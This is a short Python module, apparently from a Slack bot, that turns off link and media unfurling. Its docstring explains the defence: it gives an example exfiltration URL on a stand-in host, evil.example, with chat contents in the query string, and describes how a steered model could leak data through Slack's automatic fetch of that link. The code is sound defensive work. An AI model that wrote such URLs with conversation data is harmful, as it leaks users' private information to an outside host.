"""A bot post unfurls nothing: Slack's servers fetch a posted link to unfurl it (media
links by default), with no one clicking, so a model steered into writing
``https://evil.example/pixel.png?d=<what the chat said>`` would leak it on its own."""

from __future__ import annotations

from typing import Any

NO_UNFURLS: dict[str, Any] = {"unfurl_links": False, "unfurl_media": False}


def unfurls(link_previews: bool) -> dict[str, Any]:
    """The post arguments for the channel's ``link_previews`` key (on: Slack's own
    defaults, which unfurl media links)."""
    return {} if link_previews else NO_UNFURLS
